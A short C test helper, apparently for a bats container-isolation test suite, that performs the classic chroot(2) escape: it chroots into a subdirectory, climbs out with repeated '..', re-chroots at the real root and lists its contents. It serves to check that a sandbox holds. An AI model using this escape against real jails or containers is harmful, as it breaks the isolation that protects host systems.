/*
 * escape.c: the classic way out of a chroot(2), used by escapes.bats.
 *
 * chroot() does not change the working directory.  A process that can
 * chroot chroots into a subdirectory, is then outside its own root, and
 * walks up with "..", which stops only at the real root of the mount
 * namespace; chroot(".") there, and list "/".  Against a pivot_root(2)
 * whose old root is detached, the real root is the container's own.
 */
#include <dirent.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
	struct dirent *entry;
	DIR *root;

	mkdir("escape-jail", 0755);
	if (chroot("escape-jail") != 0) {
		perror("chroot escape-jail");
		return 1;
	}
	for (int i = 0; i < 64; i++)
		if (chdir("..") != 0)
			break;
	if (chroot(".") != 0) {
		perror("chroot .");
		return 1;
	}
	root = opendir("/");
	if (root == NULL) {
		perror("opendir /");
		return 1;
	}
	while ((entry = readdir(root)) != NULL)
		if (entry->d_name[0] != '.')
			puts(entry->d_name);
	closedir(root);
	return 0;
}
